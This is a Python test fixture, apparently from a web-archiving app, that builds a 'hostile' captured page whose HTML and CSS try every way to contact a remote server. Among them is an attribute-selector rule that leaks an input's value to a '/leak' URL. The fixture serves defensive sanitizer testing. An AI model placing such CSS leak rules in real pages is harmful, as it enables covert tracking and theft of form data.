"""A captured page with a styled snapshot made in a test's database: its HTML and stylesheets reach for a
remote server every way CSS can (an attribute selector that would leak a field's value, @import, a font,
image-set, an escaped url(), a bad URL, a style attribute), beside the stylesheet, font and image that were
captured; and, for some tests, its rendering with a screenshot."""

from __future__ import annotations

from capture_server import PNG
from sqlalchemy.orm import Session
from workbench import make_page

from webapp.models import PageRendering, PageRequisite

SITE = "https://site.example"


def hostile_css(remote: str) -> str:
    return (f'@import url("{remote}/import.css");\n@import "{SITE}/css/kept-import.css";\n'
            f'@font-face {{ font-family: Harbour; src: url("{remote}/font.woff2") format("woff2"); }}\n'
            f'@font-face {{ font-family: Kept; src: url("/fonts/kept.woff2"); }}\n'
            f'input[value^=a] {{ background: url("{remote}/leak?a"); }}\n'
            f'input[value^=s] {{ background-image: image-set("{remote}/leak-set?s" 1x, url({remote}/set2x) 2x); }}\n'
            f'.escaped {{ background: u\\72l({remote}/escaped.png); }}\n'
            f'.bad {{ background: url({remote}/bad url); }}\n'
            f'.menu {{ float: right; width: 30%; }} .lead {{ color: rgb(200, 0, 0); }}\n'
            f'.hero {{ background: url("/img/kept.png"); }}\n')


def hostile_html(remote: str) -> str:
    return (f"<!doctype html><html><head><title>Styled</title><base href='{remote}/base/'>"
            f"<link rel='stylesheet' href='{SITE}/css/site.css'><link rel='stylesheet' href='{remote}/other.css'>"
            f"<link rel='preload' as='image' href='{remote}/preload.png'>"
            f"<style>@import url({remote}/inline-import.css); body {{ background: url({remote}/body.png) }}</style>"
            f"</head><body><nav class='menu'>Home | News</nav><article class='hero'><h1>Ferry news</h1>"
            f"<p class='lead' id='lead' style='background-image:url({remote}/attr.png)'>The ferry runs again.</p>"
            f"<p class='escaped bad'>Timetables are at the pier.</p>"
            f"<input value='secret'><img src='{SITE}/img/kept.png' srcset='{remote}/2x.png 2x'>"
            f"<img src='{remote}/pixel.png'></article></body></html>")


def styled_page(session: Session, remote: str, rendered: bool = False) -> int:
    """The hostile captured page's id (its URL on site.example, its base href on the remote server)."""
    page = make_page(session, hostile_html(remote), url=f"{SITE}/news/ferry", host="site.example",
                     candidates={"trafilatura": "Ferry news\nThe ferry runs again."})
    session.add_all([
        PageRequisite(page_id=page.id, url=f"{SITE}/css/site.css", content_type="text/css",
                      data=hostile_css(remote).encode()),
        PageRequisite(page_id=page.id, url=f"{SITE}/css/kept-import.css", content_type="text/css; charset=utf-8",
                      data=b"h1 { text-transform: uppercase; }"),
        PageRequisite(page_id=page.id, url=f"{SITE}/fonts/kept.woff2", content_type="font/woff2", data=b"wOF2"),
        PageRequisite(page_id=page.id, url=f"{SITE}/img/kept.png", content_type="image/png", data=PNG),
    ])
    if rendered:
        session.add(PageRendering(page_id=page.id, screenshot=PNG, html=hostile_html(remote).replace(
            "</article>", "<p id='written'>Written by the page's script.</p></article>")))
    session.commit()
    return page.id
